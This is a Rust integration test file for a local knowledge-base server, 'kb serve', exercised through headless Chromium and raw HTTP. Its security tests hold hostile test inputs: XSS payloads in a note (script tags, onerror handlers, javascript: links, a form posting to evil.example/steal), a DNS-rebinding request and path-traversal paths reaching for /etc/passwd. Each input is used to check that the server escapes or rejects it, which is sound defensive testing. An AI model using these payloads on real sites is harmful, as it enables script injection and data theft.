//! `kb serve`: the real binary on a free loopback port, read by headless Chromium (Debian's
//! `chromium`, which `tests/run.sh` installs) and by raw HTTP requests.
//!
//! `KB_UPDATE_SCREENSHOTS=1` also writes the search and note screenshots to `docs/`.

use crate::env::{note, TestEnv};
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

/// A running `kb serve`, stopped when dropped.
struct Server {
    child: Child,
    /// `http://127.0.0.1:PORT/`
    url: String,
    /// `127.0.0.1:PORT`
    addr: String,
}

impl Server {
    fn start(env: &TestEnv) -> Server {
        let mut child = env
            .command()
            .args(["serve", "--port", "0"])
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("kb serve");
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .expect("the address");
        let url = line.trim().to_string();
        assert!(url.starts_with("http://127.0.0.1:"), "printed: {line:?}");
        let addr = url
            .trim_start_matches("http://")
            .trim_end_matches('/')
            .to_string();
        Server { child, url, addr }
    }

    /// One raw HTTP/1.1 request: (status, head, body).
    fn raw(&self, request: &str) -> (u16, String, String) {
        let mut s = TcpStream::connect(&self.addr).expect("connect");
        s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
        s.write_all(request.as_bytes()).unwrap();
        let mut buf = Vec::new();
        s.read_to_end(&mut buf).expect("an answer");
        let text = String::from_utf8_lossy(&buf).into_owned();
        let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
        let status = head
            .split_whitespace()
            .nth(1)
            .and_then(|c| c.parse().ok())
            .unwrap_or_else(|| panic!("no status in {head:?}"));
        (status, head.to_string(), body.to_string())
    }

    fn get(&self, path: &str) -> (u16, String, String) {
        self.raw(&format!(
            "GET {path} HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n",
            self.addr
        ))
    }

    /// The address of the search page for `query`.
    fn search_url(&self, query: &str) -> String {
        format!("{}?q={}", self.url, encode(query))
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn encode(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// Headless Chromium with a new profile and no background traffic.
fn chromium(env: &TestEnv, args: &[&str]) -> String {
    let profile = tempfile::tempdir().unwrap();
    let o = Command::new("chromium")
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--hide-scrollbars",
            "--virtual-time-budget=3000",
        ])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .args(args)
        .env("HOME", &env.home)
        .output()
        .expect("chromium (Debian's package; tests/run.sh installs it)");
    assert!(
        o.status.success(),
        "chromium {args:?}: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// The page's DOM after its scripts ran.
fn dom(env: &TestEnv, url: &str) -> String {
    chromium(env, &["--dump-dom", url])
}

/// A screenshot of the page, checked to be a real picture, copied to `docs/` when asked.
fn screenshot(env: &TestEnv, url: &str, name: &str) {
    let out = env.home.join(name);
    chromium(
        env,
        &[
            &format!("--screenshot={}", out.display()),
            "--window-size=1100,760",
            url,
        ],
    );
    let png = std::fs::read(&out).expect("the screenshot");
    assert!(
        png.starts_with(b"\x89PNG") && png.len() > 10_000,
        "{name}: {} bytes",
        png.len()
    );
    if std::env::var_os("KB_UPDATE_SCREENSHOTS").is_some() {
        let docs = Path::new(env!("CARGO_MANIFEST_DIR")).join("docs");
        std::fs::create_dir_all(&docs).unwrap();
        std::fs::write(docs.join(name), &png).unwrap();
    }
}

/// The `href` of the first `<a class="title">` (the first hit).
fn first_hit(dom: &str) -> Option<String> {
    let at = dom.find("class=\"title\"")?;
    let tag_start = dom[..at].rfind('<')?;
    let tag = &dom[tag_start..dom[tag_start..].find('>')? + tag_start];
    let href = tag.split("href=\"").nth(1)?.split('"').next()?;
    Some(href.replace("&amp;", "&"))
}

/// The start tags of an HTML text, without `<` and `>` (`a href="/x"`).
fn elements(html: &str) -> Vec<&str> {
    html.split('<')
        .skip(1)
        .filter(|t| t.starts_with(|c: char| c.is_ascii_alphabetic()))
        .map(|t| t.split('>').next().unwrap_or(t))
        .collect()
}

fn team_vault() -> TestEnv {
    let env = TestEnv::new();
    env.write(
        "windows/smb-network-path.md",
        note(
            "Windows cannot reach a shared folder (0x80070035)",
            &["windows", "smb", "network"],
            &["Windows cannot access \\\\FILESERVER01\\Share. Error code: 0x80070035. The network path was not found."],
            "1. Set the network profile to **Private**.\n2. Check the server answers on port 445: `Test-NetConnection FILESERVER01 -Port 445`.\n3. Enable insecure guest logons if the NAS needs them.\n\n| Setting | Value |\n|---|---|\n| Profile | Private |",
        ),
    );
    env.write(
        "windows/printer-spooler.md",
        note(
            "Print spooler stops when printing from Word",
            &["windows", "printing"],
            &["The print spooler service terminated unexpectedly. It has done this 3 time(s)."],
            "Clear C:\\Windows\\System32\\spool\\PRINTERS and restart the spooler.",
        ),
    );
    env.write(
        "mail/outlook-password-prompt.md",
        note(
            "Outlook keeps asking for the password",
            &["mail", "outlook"],
            &["Outlook is trying to connect to the server. Enter your password for user@contoso.com"],
            "Remove the cached credentials in Credential Manager, then sign in with modern authentication.",
        ),
    );
    env.write(
        "network/dns-after-vpn.md",
        "---\ntitle: Names do not resolve after the VPN disconnects\ntags: [network, vpn]\n---\n\n\
         After the VPN drops, see [[windows/smb-network-path]].\n\n## Fix\n\nipconfig /flushdns\n",
    );
    env.kb(&["index"]).ok();
    env
}

#[test]
fn a_pasted_error_with_other_variables_finds_its_note_and_its_page_in_the_browser() {
    let env = team_vault();
    let server = Server::start(&env);
    // Another server, share and layout than recorded.
    let pasted = "Windows cannot access \\\\NAS-07\\Accounts.\nError code: 0x80070035.\nThe network path was not found.";
    let url = server.search_url(pasted);
    let page = dom(&env, &url);
    let href = first_hit(&page).unwrap_or_else(|| panic!("no hit in:\n{page}"));
    assert_eq!(href, "/note/windows/smb-network-path", "{page}");
    // The hit shows the recorded error that matched, the fix's first lines and the record.
    assert!(page.contains("FILESERVER01"), "{page}");
    assert!(page.contains("Fix:"), "{page}");
    // The pasted error stays in the search box.
    assert!(page.contains("NAS-07"), "{page}");
    screenshot(&env, &url, "serve-search.png");

    let note_url = format!("{}{}", server.url.trim_end_matches('/'), href);
    let page = dom(&env, &note_url);
    assert!(
        page.contains("<h1>Windows cannot reach a shared folder (0x80070035)</h1>"),
        "{page}"
    );
    // Rendered markdown: the list, bold, code and the table.
    for part in [
        "<ol>",
        "<strong>Private</strong>",
        "<code>Test-NetConnection",
        "<table>",
    ] {
        assert!(page.contains(part), "{part} missing:\n{page}");
    }
    // Its tags lead to tag pages; the note that links to it is listed.
    assert!(page.contains("href=\"/tag/smb\""), "{page}");
    assert!(
        page.contains("Names do not resolve after the VPN disconnects"),
        "{page}"
    );
    screenshot(&env, &note_url, "serve-note.png");
    let tag = dom(&env, &format!("{}tag/windows", server.url));
    assert!(
        tag.contains("Print spooler stops") && tag.contains("Windows cannot reach"),
        "{tag}"
    );
    assert!(!tag.contains("Outlook keeps asking"), "{tag}");

    // Nothing matches: the web query and the line that starts the note.
    let page = dom(
        &env,
        &server.search_url("Error 0x8024a105 while installing KB5034441"),
    );
    assert!(page.contains("Search the web for"), "{page}");
    assert!(page.contains("0x8024a105"), "{page}");
    assert!(page.contains("kb add --error"), "{page}");
}

#[test]
fn a_hostile_note_renders_as_harmless_text_and_changes_nothing_in_the_page() {
    let env = team_vault();
    env.write(
        "hostile.md",
        "---\ntitle: \"Hostile <script>document.title='pwned-title'</script> note\"\ntags: [xss]\n\
         errors:\n  - \"<img src=x onerror=\\\"document.title='pwned-error'\\\">\"\n---\n\n\
         # Hostile\n\n<script>document.title='pwned-script';document.body.setAttribute('data-pwned','1')</script>\n\n\
         <img src=\"x\" onerror=\"document.title='pwned-img'\">\n\n\
         [click me](javascript:document.title='pwned-link')\n\n\
         <a href=\"javascript:alert(1)\" onclick=\"document.title='pwned-click'\">raw link</a>\n\n\
         <iframe src=\"https://evil.example/\"></iframe>\n\n\
         <style>body { display: none }</style>\n\n\
         <form action=\"https://evil.example/steal\"><input name=p></form>\n\n\
         <svg><script>document.title='pwned-svg'</script></svg>\n\n\
         ## Fix\n\nStay calm: `<script>` in code is text.\n",
    );
    env.kb(&["index"]).ok();
    let server = Server::start(&env);
    let (status, _, html) = server.get("/note/hostile");
    assert_eq!(status, 200, "{html}");
    let page = dom(&env, &format!("{}note/hostile", server.url));
    // The title is the note's title as text; no script of the note ran.
    let title = page
        .split("<title>")
        .nth(1)
        .and_then(|t| t.split("</title>").next())
        .unwrap_or_default();
    assert!(
        title.starts_with("Hostile &lt;script&gt;") && title.ends_with("note - kb"),
        "a script of the note set the title: {title}"
    );
    // Markup, not text: every element of the note (text is escaped in the DOM's HTML); the
    // page around it holds the server's own search form and script only.
    let article = page
        .split("<article")
        .nth(1)
        .and_then(|a| a.split("</article>").next())
        .unwrap_or_else(|| panic!("no note in:\n{page}"));
    let scripts: Vec<&str> = elements(&page)
        .into_iter()
        .filter(|t| t.to_lowercase().starts_with("script"))
        .collect();
    assert_eq!(
        scripts,
        ["script src=\"/static/kb.js\" defer=\"\""],
        "{page}"
    );
    for tag in elements(&format!("<article{article}")) {
        let lower = tag.to_lowercase();
        for bad in [" on", "javascript:", "data-pwned"] {
            assert!(!lower.contains(bad), "<{tag}> in the page:\n{page}");
        }
        for name in [
            "iframe", "style", "form", "input", "svg", "object", "embed", "script",
        ] {
            assert!(!lower.starts_with(name), "<{tag}> in the note:\n{page}");
        }
    }
    // The text is still there, as text.
    assert!(
        page.contains("raw link") && page.contains("<code>&lt;script&gt;</code> in code is text")
    );
    // A search that lists it escapes it too.
    let page = dom(&env, &server.search_url("hostile note"));
    assert!(page.contains("Hostile &lt;script&gt;"), "{page}");
    let scripts = elements(&page)
        .into_iter()
        .filter(|t| t.starts_with("script"))
        .count();
    assert_eq!(scripts, 1, "{page}");
}

#[test]
fn only_get_and_head_to_the_bound_host_are_answered_and_errors_are_pages() {
    let env = team_vault();
    let server = Server::start(&env);
    let (status, head, _) = server.get("/");
    assert_eq!(status, 200);
    let head = head.to_lowercase();
    assert!(
        head.contains("content-security-policy: default-src 'none'"),
        "{head}"
    );
    assert!(head.contains("x-content-type-options: nosniff"), "{head}");

    // DNS rebinding: a page of another site whose name points here.
    let (status, _, body) = server.raw(&format!(
        "GET /?q=smb HTTP/1.1\r\nHost: evil.example:{}\r\nConnection: close\r\n\r\n",
        server.addr.rsplit(':').next().unwrap()
    ));
    assert_eq!(status, 421, "{body}");
    assert!(!body.contains("FILESERVER01"));
    let (status, ..) = server.raw("GET / HTTP/1.1\r\nConnection: close\r\n\r\n");
    assert!((400..500).contains(&status), "no Host: {status}");

    for method in ["POST", "PUT", "DELETE", "PATCH", "OPTIONS"] {
        let (status, head, _) = server.raw(&format!(
            "{method} / HTTP/1.1\r\nHost: {}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
            server.addr
        ));
        assert_eq!(status, 405, "{method}");
        assert!(head.to_lowercase().contains("allow: get, head"), "{head}");
    }
    let (status, head, body) = server.raw(&format!(
        "HEAD /note/windows/smb-network-path HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n",
        server.addr
    ));
    assert_eq!(status, 200, "{head}");
    assert!(body.is_empty());

    // No path reaches a file: ids are looked up in the index, never opened as paths.
    std::fs::write(
        env.home.join("secret.md"),
        "---\ntitle: SECRET-OUTSIDE\n---\n",
    )
    .unwrap();
    for path in [
        "/note/../secret",
        "/note/..%2F..%2Fsecret",
        "/note/%2e%2e/%2e%2e/secret",
        "/note//etc/passwd",
        "/note/windows/../../secret",
        "/static/../../etc/passwd",
        "/nothing-here",
    ] {
        let (status, _, body) = server.get(path);
        assert!((400..500).contains(&status), "{path}: {status}");
        assert!(body.contains("<!doctype html>"), "{path}: not a page");
        assert!(
            !body.contains("SECRET-OUTSIDE") && !body.contains("root:"),
            "{path}"
        );
    }
    // Bad or huge input is a page too, and the server goes on.
    let (status, _, body) = server.get("/?q=%ff%fe%zz%");
    assert_eq!(status, 200, "{body}");
    let huge = "x".repeat(200 * 1024);
    let (status, _, _) = server.get(&format!("/?q={huge}"));
    assert!((400..500).contains(&status), "{status}");
    let (status, _, body) = server.get("/tag/no-such-tag");
    assert_eq!(status, 404, "{body}");
    let (status, _, body) = server.get("/?q=0x80070035");
    assert_eq!(status, 200);
    assert!(body.contains("/note/windows/smb-network-path"), "{body}");
}

#[test]
fn forty_clients_are_all_answered_and_notes_added_by_the_cli_appear() {
    let env = team_vault();
    let server = Server::start(&env);
    let paths = [
        "/?q=0x80070035",
        "/?q=The%20print%20spooler%20service%20terminated%20unexpectedly",
        "/note/mail/outlook-password-prompt",
        "/tag/windows",
        "/tags",
        "/static/kb.css",
        "/",
        "/note/missing",
        "/?q=outlook%20password",
        "/note/network/dns-after-vpn",
    ];
    let addr = server.addr.clone();
    let answered: Vec<Vec<u16>> = std::thread::scope(|s| {
        let handles: Vec<_> = (0..40)
            .map(|c| {
                let addr = addr.clone();
                s.spawn(move || {
                    (0..10)
                        .map(|i| {
                            let path = paths[(c + i) % paths.len()];
                            let mut st = TcpStream::connect(&addr).expect("connect");
                            st.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
                            write!(
                                st,
                                "GET {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n"
                            )
                            .unwrap();
                            let mut buf = Vec::new();
                            st.read_to_end(&mut buf).expect("an answer");
                            let text = String::from_utf8_lossy(&buf);
                            text.split_whitespace()
                                .nth(1)
                                .and_then(|c| c.parse().ok())
                                .unwrap_or(0)
                        })
                        .collect()
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    });
    let all: Vec<u16> = answered.into_iter().flatten().collect();
    assert_eq!(all.len(), 400);
    let missing = all.iter().filter(|&&c| c == 404).count();
    assert_eq!(missing, 40, "one path in ten is a missing note: {all:?}");
    assert!(all.iter().all(|&c| c == 200 || c == 404), "{all:?}");

    // The server lives, and a note the CLI adds meanwhile is found (no lock is held: the
    // add does not wait for the server).
    let add = env.kb(&[
        "add",
        "--title",
        "Teams camera is black",
        "--error",
        "Teams: We couldn't start your video. Error code 0xC00D3704",
        "--fix",
        "Close other apps that use the camera.",
    ]);
    let add = add.ok();
    assert!(!add.stderr.contains("waiting"), "{}", add.stderr);
    let (status, _, body) = server.get(&format!(
        "/?q={}",
        encode("We couldn't start your video. Error code 0xC00D3704")
    ));
    assert_eq!(status, 200);
    assert!(body.contains("Teams camera is black"), "{body}");
}
